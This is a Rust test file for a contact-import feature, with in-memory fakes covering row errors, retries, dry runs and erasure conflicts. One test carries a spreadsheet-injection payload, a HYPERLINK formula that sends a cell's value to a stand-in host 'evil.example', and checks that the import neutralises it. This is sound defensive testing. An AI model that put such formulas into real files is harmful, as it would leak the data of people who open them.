//! Whole imports, on contacts and files in memory.

use std::sync::atomic::{AtomicUsize, Ordering};

use cloud::aws::CallError;
use domain::agent::Role;
use domain::details::Details;
use domain::ids::ListId;
use domain::import::Columns;
use domain::job::{Counts, Orderer, Task};
use domain::values::E164;
use jiff::Timestamp;

use super::*;

/// Contacts and files.
#[derive(Default)]
struct World {
    contacts: Mutex<BTreeMap<ContactId, Contact>>,
    files: Mutex<BTreeMap<String, Vec<u8>>>,
    /// The write that fails although it was carried out, counted from 1; 0: none.
    lost: AtomicUsize,
    writes: AtomicUsize,
    /// The addresses of erased customers.
    erased: Mutex<BTreeSet<String>>,
    /// The write before which an owner erases the customer with this number.
    erases: Mutex<Option<(usize, &'static str)>>,
}

impl World {
    fn wrote(&self) -> Result<Committed, PortError> {
        let write = self.writes.fetch_add(1, Ordering::Relaxed) + 1;
        if write == self.lost.load(Ordering::Relaxed) {
            return Err(PortError { operation: "write", reason: "the answer is lost".to_owned() });
        }
        Ok(Committed::Done)
    }

    /// Erases a customer if the time has come.
    fn is_erased_now(&self) {
        let due = *self.erases.lock().unwrap();
        if let Some((_, number)) = due.filter(|(write, _)| *write == self.writes.load(Ordering::Relaxed) + 1) {
            let place = Place::before(&Address::Phone(E164::parse(number).unwrap()));
            self.contacts.lock().unwrap().retain(|_, contact| contact.places().all(|own| own != place));
            self.erased.lock().unwrap().insert(place.key());
        }
    }

    fn all(&self) -> Vec<Contact> {
        self.contacts.lock().unwrap().values().cloned().collect()
    }
}

impl Registry for &World {
    async fn owner(&self, place: &Place, _: &Business) -> Result<Option<ContactId>, PortError> {
        let contacts = self.contacts.lock().unwrap();
        Ok(contacts.values().find(|contact| contact.places().any(|own| own == *place)).map(|contact| contact.id.clone()))
    }

    async fn contact(&self, id: &ContactId) -> Result<Option<Contact>, PortError> {
        Ok(self.contacts.lock().unwrap().get(id).cloned())
    }

    async fn write(&self, contact: &Contact, _: bool, places: &[Place], since: Timestamp) -> Result<Committed, PortError> {
        self.is_erased_now();
        if Registry::was_erased(self, places, since).await? {
            return Ok(Committed::Conflict);
        }
        self.contacts.lock().unwrap().insert(contact.id.clone(), contact.clone());
        self.wrote()
    }

    async fn was_erased(&self, places: &[Place], _: Timestamp) -> Result<bool, PortError> {
        Ok(places.iter().any(|place| self.erased.lock().unwrap().contains(&place.key())))
    }

    async fn lists(&self) -> Result<Vec<List>, PortError> {
        Ok(vec![List { id: list(1), name: "Clients".to_owned() }])
    }

    async fn business(&self, _: &AccountId) -> Result<Option<Business>, PortError> {
        Ok(Some(Business::from_key("META#1")))
    }
}

impl Bucket for &World {
    async fn begin(&self, _: &str) -> Result<String, CallError> {
        unreachable!()
    }

    async fn part(&self, _: &str, _: &str, _: i32, _: Vec<u8>) -> Result<Option<String>, CallError> {
        unreachable!()
    }

    async fn complete(&self, _: &str, _: &str, _: &[String]) -> Result<bool, CallError> {
        unreachable!()
    }

    async fn abort(&self, _: &str, _: &str) -> Result<(), CallError> {
        unreachable!()
    }

    async fn put(&self, key: &str, bytes: Vec<u8>) -> Result<(), CallError> {
        self.files.lock().unwrap().insert(key.to_owned(), bytes);
        Ok(())
    }

    async fn get(&self, key: &str) -> Result<Option<Vec<u8>>, CallError> {
        Ok(self.files.lock().unwrap().get(key).cloned())
    }

    async fn size(&self, key: &str) -> Result<Option<u64>, CallError> {
        Ok(self.files.lock().unwrap().get(key).map(|bytes| bytes.len() as u64))
    }

    async fn delete(&self, key: &str) -> Result<(), CallError> {
        self.files.lock().unwrap().remove(key);
        Ok(())
    }
}

fn list(number: u128) -> ListId {
    ListId::from_ulid(Ulid(number))
}

fn import() -> Import {
    let columns = Columns {
        phone: Some("Phone".into()),
        first_name: Some("First".into()),
        company: Some("Company".into()),
        lists: Some("Lists".into()),
        ..Columns::default()
    };
    Import {
        key: "uploads/imports/1".into(),
        columns,
        country: Some("IT".into()),
        account: None,
        lists: [list(2)].into(),
        known: Known::Skip,
        dry_run: false,
    }
}

/// Rows 1 to `rows`: the seventh number is wrong, the ninth repeats the second, and the fourth is known.
fn file(rows: usize) -> Vec<u8> {
    let number = |row: usize| match row {
        7 => "12".to_owned(),
        9 => "333 0000002".to_owned(),
        row => format!("333 {row:07}"),
    };
    let rows: String = (1..=rows).map(|row| format!("{};Zoë {row};'=Rossi;clients\r\n", number(row))).collect();
    format!("Phone;First;Company;Lists\r\n{rows}").into_bytes()
}

fn known() -> Contact {
    let phone = Place::before(&Address::Phone(E164::parse("+393330000004").unwrap()));
    let details = Details { last_name: Some("Bianchi".into()), ..Details::default() };
    Contact { details, ..Contact::known_by(ContactId::from_ulid(Ulid(4)), Timestamp::UNIX_EPOCH, [phone]) }
}

fn world(rows: usize) -> World {
    let world = World::default();
    world.contacts.lock().unwrap().insert(known().id, known());
    world.files.lock().unwrap().insert(import().key, file(rows));
    world
}

/// Does all units. One that fails is done again, by another process.
async fn play(world: &World, import: Import) -> Job {
    let by = Orderer { who: "agt_1".to_owned(), role: Role::Supervisor };
    let id = JobId::from_ulid(Ulid::from_parts(1, 1));
    let mut job = Job::new(id, Task::ImportContacts(Box::new(import.clone())), by, 0, Timestamp::UNIX_EPOCH);
    let mut importer = Importer::new(world, world);
    for _ in 0..100 {
        let Ok(unit) = importer.unit(&job, &import).await else {
            importer = Importer::new(world, world);
            continue;
        };
        (job.counts, job.place) = (unit.counts, unit.place);
        match unit.then {
            Then::More => {}
            Then::Done(file) => return Job { file, ..job },
            Then::Failed(problem) => return Job { problem: Some(problem), ..job },
            Then::Later(_) | Then::Stopped => panic!("{:?}", unit.then),
        }
    }
    panic!("it does not end")
}

fn told(world: &World, job: &Job) -> String {
    let file = job.file.as_ref().unwrap();
    String::from_utf8(world.files.lock().unwrap()[&file.key].clone()).unwrap()
}

const ERRORS: &str = "\u{feff}row,column,reason,code\r\n8,Phone,is not a phone number,not-a-phone\r\n10,Phone,repeats row 3,repeats\r\n";

#[tokio::test]
async fn rows_become_contacts_and_errors_are_told_by_row_and_column() {
    let world = world(300);
    let job = play(&world, import()).await;
    assert_eq!(job.counts, Counts { total: 300, done: 297, skipped: 3 });
    assert_eq!(told(&world, &job), ERRORS);
    let all = world.all();
    assert_eq!((all.len(), all.iter().find(|contact| contact.id == known().id).unwrap()), (298, &known()));
    let first = all.iter().find(|contact| contact.details.first_name.as_deref() == Some("Zoë 1")).unwrap();
    // The apostrophe that guards a formula is taken off.
    assert_eq!((first.name.as_ref().unwrap().0.as_str(), first.details.company.as_deref()), ("Zoë 1", Some("=Rossi")));
    assert_eq!((&first.lists, first.named_by), (&[list(1), list(2)].into(), Some(NamedBy::Person)));
}

#[tokio::test]
async fn a_known_contact_is_skipped_updated_or_refused() {
    let world_updated = world(5);
    let job = play(&world_updated, Import { known: Known::Update, ..import() }).await;
    assert_eq!(job.counts, Counts { total: 5, done: 5, skipped: 0 });
    let updated = world_updated.contacts.lock().unwrap()[&known().id].clone();
    assert_eq!(
        (updated.version, updated.details.first_name.as_deref(), updated.details.last_name.as_deref()),
        (2, Some("Zoë 4"), Some("Bianchi"))
    );
    // Once more, nothing changes.
    play(&world_updated, Import { known: Known::Update, ..import() }).await;
    assert_eq!(world_updated.contacts.lock().unwrap()[&known().id], updated);
    let world_refused = world(5);
    let job = play(&world_refused, Import { known: Known::Refuse, ..import() }).await;
    assert!(told(&world_refused, &job).contains("5,Phone,or the user id belongs to a contact already,known"));
}

#[tokio::test]
async fn a_dry_run_counts_the_same_and_writes_no_contact() {
    for known in [Known::Skip, Known::Update, Known::Refuse] {
        let (wet, dry) = (world(40), world(40));
        let (written, tried) =
            (play(&wet, Import { known, ..import() }).await, play(&dry, Import { known, dry_run: true, ..import() }).await);
        assert_eq!((written.counts, told(&wet, &written)), (tried.counts, told(&dry, &tried)));
        assert_eq!(dry.all(), [known_one()]);
    }
}

fn known_one() -> Contact {
    known()
}

#[tokio::test]
async fn an_import_that_dies_at_any_write_ends_the_same() {
    let whole = world(140);
    let done = play(&whole, import()).await;
    for lost in 1..=137 {
        let world = world(140);
        world.lost.store(lost, Ordering::Relaxed);
        let job = play(&world, import()).await;
        assert_eq!((job.counts, told(&world, &job)), (done.counts, told(&whole, &done)), "{lost}");
        assert_eq!(world.all(), whole.all(), "{lost}");
    }
}

/// Row 20 is a new customer, row 4 a known one. Whichever write of the import comes first after the erasure, neither
/// is there at the end, and the others are.
#[tokio::test]
async fn an_import_under_way_does_not_add_a_customer_who_is_erased_at_any_point_of_it() {
    for known in [Known::Skip, Known::Update] {
        for number in ["+393330000020", "+393330000004"] {
            for (write, lost) in (1..=38).flat_map(|write| [(write, 0), (write, write)]) {
                let world = world(40);
                *world.erases.lock().unwrap() = Some((write, number));
                world.lost.store(lost, Ordering::Relaxed);
                let job = play(&world, Import { known, ..import() }).await;
                if world.erased.lock().unwrap().is_empty() {
                    // Where known customers are skipped there are fewer writes.
                    assert!(write > 37, "{known:?} {number} {write}");
                    continue;
                }
                let place = Place::before(&Address::Phone(E164::parse(number).unwrap()));
                let there = world.all().iter().any(|contact| contact.places().any(|own| own == place));
                assert!(!there, "{known:?} {number} {write}: {}", told(&world, &job));
                assert!(world.all().len() >= 36, "{known:?} {number} {write}: {}", world.all().len());
            }
        }
    }
}

/// A spreadsheet that opens the file of errors must carry out nothing, and no error repeats a cell.
#[tokio::test]
async fn a_file_of_formulas_imports_nothing_and_its_errors_have_none() {
    let world = World::default();
    let formula = "=HYPERLINK(\"http://evil.example/\"&A1)";
    let row = vec![format!("\"{}\"", formula.replace('"', "\"\"")); 4].join(";");
    let file = format!("Phone;First;Company;Lists\r\n{}", format!("{row}\r\n").repeat(50));
    world.files.lock().unwrap().insert(import().key, file.into_bytes());
    let job = play(&world, import()).await;
    assert_eq!((job.counts, world.all().len()), (Counts { done: 0, skipped: 50, total: 50 }, 0));
    let told = told(&world, &job);
    assert!(told.lines().count() > 50 && !told.contains("evil"), "{told}");
    assert!(told.lines().flat_map(|line| line.split(',')).all(|cell| !cell.trim_matches('"').starts_with(['=', '+', '-', '@'])), "{told}");
}

#[tokio::test]
async fn what_is_wrong_with_the_whole_file_ends_the_job_with_the_reason() {
    let world = world(3);
    let missing = Columns { email: Some("Mail".into()), ..import().columns };
    for (import, says) in [
        (Import { key: "uploads/imports/2".into(), ..import() }, "gone"),
        (Import { country: Some("XX".into()), ..import() }, "country"),
        (Import { columns: missing, ..import() }, "columns.email"),
    ] {
        let job = play(&world, import).await;
        assert!(job.problem.as_ref().unwrap().contains(says), "{job:?}");
    }
    assert_eq!(world.all(), [known()]);
}
